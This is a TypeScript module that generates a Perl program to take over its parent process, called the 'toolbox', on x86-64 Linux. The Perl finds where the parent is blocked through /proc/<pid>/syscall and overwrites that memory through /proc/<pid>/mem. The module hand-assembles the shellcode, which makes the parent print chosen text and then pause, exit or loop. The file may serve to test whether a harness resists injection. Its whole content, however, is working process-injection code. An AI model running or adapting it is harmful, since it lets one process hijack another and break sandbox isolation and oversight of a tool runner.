// How a command takes over the toolbox beside it: both are the same user, so that the memory of the one is open to the
// other. Code is put where the toolbox waits; when it wakes up, it says what the attempt wants it to say.
import { numbersHere } from './syscall-numbers.ts';

export type Afterwards = 'falls silent' | 'ends' | 'says it again and again';

export const canTakeOver = process.arch === 'x64';

/** A program for perl. It says `held` where the kernel does not let it. */
export function takeOver(said: Buffer, afterwards: Afterwards): string {
  return `my $toolbox = getppid(); my $place;
    for (1..500) {
      open(my $file, "<", "/proc/$toolbox/syscall") or do { held("where it waits: $!"); exit };
      if ((<$file> // "") =~ / 0x([0-9a-f]+)$/) { no warnings "portable"; $place = hex $1; last }
      select(undef, undef, undef, 0.01);
    }
    defined $place or do { print "broken: it never waits\\n"; exit };
    open(my $memory, "+<", "/proc/$toolbox/mem") or do { held("its memory: $!"); exit };
    binmode $memory; sysseek($memory, $place, 0);
    my $code = pack("H*", "${makeCode(said, afterwards).toString('hex')}");
    if (syswrite($memory, $code) == length $code) { print "taken\\n" } else { held("its memory: $!") }`;
}

function makeCode(said: Buffer, afterwards: Afterwards): Buffer {
  const endings: Record<Afterwards, number[]> = {
    'falls silent': [...[0xb8, 34, 0, 0, 0], ...[0x0f, 0x05], ...[0xeb, 0xf7]], // pause, for ever
    ends: [...[0xb8, 231, 0, 0, 0], ...[0x31, 0xff], ...[0x0f, 0x05]], // exit_group(0)
    'says it again and again': [0xeb, -26 & 0xff], // from the start
  };
  const ending = endings[afterwards];
  const code = Buffer.concat([
    Buffer.from([0xb8, numbersHere().write ?? 1, 0, 0, 0]), // mov eax, write
    Buffer.from([0xbf, 1, 0, 0, 0]), // mov edi, 1
    Buffer.from([0x48, 0x8d, 0x35, 0, 0, 0, 0]), // lea rsi, [said]
    Buffer.from([0xba, 0, 0, 0, 0]), // mov edx, its length
    Buffer.from([0x0f, 0x05]), // syscall
    Buffer.from(ending),
  ]);
  code.writeInt32LE(code.length - 17, 13);
  code.writeInt32LE(said.length, 18);
  return Buffer.concat([code, said]);
}
